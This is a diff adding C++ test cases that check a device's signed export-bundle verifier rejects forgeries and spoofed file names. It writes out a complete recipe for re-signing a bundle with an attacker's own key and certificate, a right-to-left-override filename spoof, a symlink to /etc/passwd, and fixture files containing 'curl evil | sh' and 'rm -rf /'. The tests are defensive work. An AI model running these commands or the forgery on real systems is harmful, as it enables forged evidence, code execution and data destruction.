@@ -7,6 +7,8 @@
 #include <fstream>
 #include <regex>
 
+#include <nlohmann/json.hpp>
+
 #include "appliance/export/bag_layout.h"
 #include "appliance/export/cms_envelope_sink.h"
 #include "common/subprocess.h"
@@ -55,6 +57,30 @@ void FlipByteAfter(const std::string& path, const std::string& marker) {
   bytes[at + 2] ^= 0x01;
   WriteFile(path, bytes);
 }
+
+// The whole forgery, with stock tools in the bag directory: an attacker's own
+// key and self-signed certificate replace the device's; the audit checkpoint,
+// the device fingerprint in bag-info.txt, both tag manifests and the tag
+// manifest's signature are all redone with it. The result is a consistent,
+// validly signed bag that no appliance made.
+const char* kForgeWithOwnKey = R"(
+    openssl ecparam -name prime256v1 -genkey -noout -out ../evil.key 2>/dev/null
+    openssl req -new -x509 -key ../evil.key -subj /CN=qoima-device -days 1 -out qoima-device-cert.pem
+    fp=$(openssl x509 -in qoima-device-cert.pem -pubkey -noout | openssl pkey -pubin -outform DER | sha256sum | cut -d' ' -f1)
+    sed -i "s/^Qoima-Device-Fingerprint: .*/Qoima-Device-Fingerprint: $fp/" bag-info.txt
+    python3 - <<'PY'
+import base64, json, subprocess
+p = json.load(open("qoima-audit-proof.json"))
+cp = base64.b64decode(p["checkpoint_base64"])
+sig = subprocess.run(["openssl", "dgst", "-sha256", "-sign", "../evil.key"], input=cp, capture_output=True, check=True).stdout
+p["checkpoint_signature_base64"] = base64.b64encode(sig).decode()
+open("qoima-audit-proof.json", "w").write(json.dumps(p, indent=2) + "\n")
+PY
+    tags="bagit.txt manifest-sha256.txt manifest-sha512.txt bag-info.txt qoima-names.txt qoima-audit-proof.json qoima-device-cert.pem"
+    for t in $tags; do echo "$(sha256sum $t | cut -d' ' -f1)  $t"; done > tagmanifest-sha256.txt
+    for t in $tags; do echo "$(sha512sum $t | cut -d' ' -f1)  $t"; done > tagmanifest-sha512.txt
+    openssl dgst -sha256 -sign ../evil.key -out tagmanifest-sha256.txt.sig tagmanifest-sha256.txt
+)";
 
 bool HasMessage(const exporting::VerifyReport& r, const std::string& kind, const std::string& needle) {
   for (const auto& p : r.problems)
@@ -159,6 +185,26 @@ TEST_CASE("file names are NFC in the bag with a map back to the original bytes")
   CHECK(names.find("data/bad_ name.txt\tbad%FF name.txt\n") != std::string::npos);
 }
 
+TEST_CASE("bag names never carry characters that hide or reorder text") {
+  ExportFixture f;
+  const std::string rlo =
+      "invoice\xE2\x80\xAE"
+      "fdp.exe";
+  WriteFile(f.payload_dir + "/" + rlo, "mz\n");
+  auto rc = f.Export("bundle.tar");
+  auto r = f.Verify(rc.output_path);
+  INFO(Describe(r));
+  REQUIRE(r.ok());
+  auto list = RunChecked({"tar", "-tf", rc.output_path});
+  REQUIRE(list.ok());
+  CHECK(list->out.find("qoima-export-000001/data/invoice_fdp.exe") != std::string::npos);
+  CHECK(list->out.find("\xE2\x80\xAE") == std::string::npos);
+  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
+  CHECK(ReadFile(bag + "/data/invoice_fdp.exe") == "mz\n");
+  CHECK(ReadFile(bag + "/qoima-names.txt").find("data/invoice_fdp.exe\tinvoice%E2%80%AEfdp.exe\n") !=
+        std::string::npos);
+}
+
 TEST_CASE("tamper: a flipped payload byte is reported with the file and algorithm") {
   ExportFixture f;
   auto rc = f.Export("bundle.tar");
@@ -249,6 +295,109 @@ TEST_CASE("tamper: a bundle re-signed with a foreign key fails against the trust
   CHECK(r2->signature_valid);
   CHECK(HasMessage(*r2, "proof", "checkpoint signature does not verify"));
   CHECK(HasMessage(*r2, "proof", "payload manifest differs"));
+}
+
+TEST_CASE("forged: a bundle re-signed throughout with an attacker's key is never OK") {
+  ExportFixture f;
+  auto rc = f.Export("bundle.tar");
+  const std::string qoima = std::string(QOIMA_BINARY_DIR) + "/appliance/qoima";
+  // The genuine bundle: OK only against the device's own certificate.
+  auto genuine = RunSubprocess({qoima, "verify-bundle", rc.output_path, "--cert", f.cert_path()});
+  REQUIRE(genuine.ok());
+  CHECK(genuine->exit_code == 0);
+  CHECK(genuine->out.find("verify-bundle: OK qoima-export-000001") != std::string::npos);
+  auto unanchored = RunSubprocess({qoima, "verify-bundle", rc.output_path});
+  REQUIRE(unanchored.ok());
+  CHECK(unanchored->exit_code == 8);
+  CHECK(unanchored->out.find("verify-bundle: SIGNATURE VALID, SIGNER NOT TRUSTED") != std::string::npos);
+
+  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
+  std::string out;
+  int code = Bash(kForgeWithOwnKey, bag, &out);
+  INFO(out);
+  REQUIRE(code == 0);
+  const std::string forged = f.dir.Sub("forged.tar");
+  Repack(bag, forged);
+  // The forgery is consistent: checked against the certificate it carries,
+  // nothing is wrong with it (this is the attack).
+  auto self = exporting::VerifyBundle(forged, exporting::VerifyOptions{});
+  REQUIRE(self.ok());
+  INFO(Describe(*self));
+  CHECK(self->ok());
+  CHECK(self->signature_valid);
+  CHECK_FALSE(self->trusted_cert_used);
+  CHECK(self->device_fingerprint != f.keyring->signer().Fingerprint());
+
+  // Without --cert the CLI never says OK: exit 8, "signer not trusted".
+  auto plain = RunSubprocess({qoima, "verify-bundle", forged});
+  REQUIRE(plain.ok());
+  INFO(plain->out << plain->err);
+  CHECK(plain->exit_code == 8);
+  CHECK(plain->out.find("verify-bundle: SIGNATURE VALID, SIGNER NOT TRUSTED qoima-export-000001") != std::string::npos);
+  CHECK(plain->out.find("verify-bundle: OK") == std::string::npos);
+  auto js = RunSubprocess({qoima, "--json", "verify-bundle", forged});
+  REQUIRE(js.ok());
+  CHECK(js->exit_code == 8);
+  auto j = nlohmann::json::parse(js->out);
+  CHECK(j["ok"] == false);
+  CHECK(j["verdict"] == "signature_valid_signer_not_trusted");
+  CHECK(j["signature_valid"] == true);
+  CHECK(j["trusted_certificate"] == false);
+
+  // With the device's certificate it fails, naming the certificate and the signature.
+  auto anchored = RunSubprocess({qoima, "verify-bundle", forged, "--cert", f.cert_path()});
+  REQUIRE(anchored.ok());
+  INFO(anchored->out);
+  CHECK(anchored->exit_code == 1);
+  CHECK(anchored->out.find("PROBLEM certificate:") != std::string::npos);
+  CHECK(anchored->out.find("PROBLEM signature:") != std::string::npos);
+  CHECK(anchored->out.find("verify-bundle: FAILED") != std::string::npos);
+  // And the documented stock-tools check, with the device's certificate, refuses it too.
+  std::string stock_out;
+  CHECK(StockCheck(f, forged, &stock_out) != 0);
+  CHECK(stock_out.find("Verification failure") != std::string::npos);
+}
+
+TEST_CASE("the documented stock-tools check refuses an added symbolic link") {
+  ExportFixture f;
+  auto rc = f.Export("bundle.tar");
+  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
+  // Not in any manifest, and `sha256sum -c` would follow it anyway.
+  fs::create_symlink("/etc/passwd", bag + "/data/passwd");
+  Repack(bag, rc.output_path);
+  std::string out;
+  int code = StockCheck(f, rc.output_path, &out);
+  INFO(out);
+  CHECK(code != 0);
+  CHECK(out.find("not a regular file: ./data/passwd") != std::string::npos);
+  CHECK(out.find("Verified OK") == std::string::npos);  // stopped before the signature step
+  auto r = f.Verify(rc.output_path);
+  CHECK(r.Has("structure"));
+}
+
+TEST_CASE("the documented stock-tools check refuses a file the manifests do not list") {
+  ExportFixture f;
+  auto rc = f.Export("bundle.tar");
+  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
+  // Outside data/: neither payload manifest nor tag manifest lists it, so
+  // every sha256sum step passes; only the comparison of the file lists sees it.
+  WriteFile(bag + "/run-me.sh", "curl evil | sh\n");
+  Repack(bag, rc.output_path);
+  std::string out;
+  int code = StockCheck(f, rc.output_path, &out);
+  INFO(out);
+  CHECK(code != 0);
+  CHECK(out.find("Verified OK") != std::string::npos);  // the signature itself is intact
+  CHECK(out.find("> run-me.sh") != std::string::npos);
+  auto r = f.Verify(rc.output_path);
+  CHECK_FALSE(r.ok());
+  // In data/ as well (the step that compared data/ alone caught this one already).
+  std::string bag2 = Unpack(f.Export("b2.tar").output_path, f.dir.Sub("y"));
+  WriteFile(bag2 + "/data/extra.sh", "rm -rf /\n");
+  Repack(bag2, f.dir.Sub("b2.tar"));
+  std::string out2;
+  CHECK(StockCheck(f, f.dir.Sub("b2.tar"), &out2) != 0);
+  CHECK(out2.find("> data/extra.sh") != std::string::npos);
 }
 
 TEST_CASE("tamper: a truncated tar is reported as truncated, with what is then missing") {
